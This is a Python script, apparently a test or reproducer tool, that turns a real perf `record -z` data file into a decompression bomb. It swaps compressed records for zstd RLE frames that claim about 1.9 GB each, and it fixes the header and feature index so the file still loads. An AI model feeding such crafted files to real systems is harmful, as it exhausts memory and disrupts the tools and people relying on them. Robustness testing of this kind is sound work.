#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""A decompression bomb made of a real `record -z` file (file or pipe form):
every COMPRESSED record's payload becomes one zstd frame of RLE blocks, each
block 4 bytes that expand to 128 KB of zeros, so a 60 KB record claims about
1.9 GB. The data size and the feature index move with the records.

    make-bomb.py IN OUT [BLOCKS [first]]
BLOCKS per record (default 15000); with "first", only the first COMPRESSED
record is replaced (the rest of the file stays readable).
"""
import struct
import sys

PERF_RECORD_COMPRESSED = 81
BLOCK = 128 * 1024


def rle_frame(blocks):
    out = bytearray(b"\x28\xb5\x2f\xfd")    # zstd magic
    out += bytes([0x00, (17 - 10) << 3])    # no content size, no checksum; 128 KB window
    for i in range(blocks):
        last = 1 if i == blocks - 1 else 0
        out += (BLOCK << 3 | 1 << 1 | last).to_bytes(3, "little") + b"\x00"
    return bytes(out)


def bomb_records(data, blocks, first_only):
    out, pos, done = bytearray(), 0, False
    frame = rle_frame(blocks)
    while pos + 8 <= len(data):
        rtype, misc, size = struct.unpack_from("<IHH", data, pos)
        if size < 8:
            break
        if rtype == PERF_RECORD_COMPRESSED and not (first_only and done):
            done = True
            rec = struct.pack("<IHH", rtype, misc, 8 + len(frame)) + frame
            assert len(rec) <= 0xffff, "too many blocks for one record"
            out += rec
        else:
            out += data[pos:pos + size]
        pos += size
    return bytes(out + data[pos:])


def main():
    src, dst = sys.argv[1], sys.argv[2]
    blocks = int(sys.argv[3]) if len(sys.argv) > 3 else 15000
    first_only = len(sys.argv) > 4 and sys.argv[4] == "first"
    raw = open(src, "rb").read()
    magic, hsize = struct.unpack_from("<8sQ", raw, 0)
    if hsize == 16:    # pipe: records from byte 16 on
        open(dst, "wb").write(raw[:16] + bomb_records(raw[16:], blocks, first_only))
        return
    data_off, data_size = struct.unpack_from("<QQ", raw, 40)
    feats = struct.unpack_from("<4Q", raw, 72)
    nr_feats = sum(bin(f).count("1") for f in feats)
    new_data = bomb_records(raw[data_off:data_off + data_size], blocks, first_only)
    delta = len(new_data) - data_size
    index_off = data_off + data_size
    index = bytearray(raw[index_off:index_off + 16 * nr_feats])
    for i in range(nr_feats):
        off, size = struct.unpack_from("<QQ", index, 16 * i)
        struct.pack_into("<QQ", index, 16 * i, off + delta, size)
    head = bytearray(raw[:data_off])
    struct.pack_into("<Q", head, 48, len(new_data))
    open(dst, "wb").write(bytes(head) + new_data + bytes(index) + raw[index_off + 16 * nr_feats:])


if __name__ == "__main__":
    main()
